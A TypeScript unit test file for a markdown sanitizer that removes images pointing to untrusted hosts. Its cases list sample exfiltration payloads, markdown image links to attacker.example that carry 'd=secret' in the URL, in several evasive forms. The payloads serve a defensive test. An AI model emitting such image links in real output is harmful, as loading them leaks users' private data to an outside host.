import { describe, expect, test } from "vitest";
import { renderMarkdown } from "./markdown.ts";
import { withoutForeignPictures } from "./pictures.ts";

const KNOWN = "# Notes\n\n![Chart](https://acme.example/chart.png)\n";

describe("withoutForeignPictures", () => {
  test.each([
    "![x](https://attacker.example/p.png?d=secret)",
    "![x](//attacker.example/p.png)",
    "[![x](https://attacker.example/p.png)](https://acme.example)",
    "![x][ref]\n\n[ref]: https://attacker.example/p.png",
    "![ref]\n\n[ref]: <https://attacker.example/p.png>",
    "a ![![x](https://attacker.example/a)](https://attacker.example/b) b",
    "![x](https://acme.example/chart.png?d=secret)",
    Array.from({ length: 60 }, (_, index) => `![${index}](https://attacker.example/${index})`).join(" "),
  ])("renders no image for %s", (markdown) => {
    const shown = renderMarkdown(withoutForeignPictures(markdown, [KNOWN]));
    expect(shown).not.toContain("<img");
  });

  test("keeps trusted images and text that is not an image", () => {
    const markdown = `${KNOWN}\n![own](/i/a.png) \`![code](https://b.example/x)\` ![x](https://attacker.example/x)`;
    const shown = withoutForeignPictures(markdown, [KNOWN]);
    expect(shown).toBe(markdown.replace("![x]", "\\![x]"));
    expect(withoutForeignPictures(KNOWN, [KNOWN])).toBe(KNOWN);
  });
});
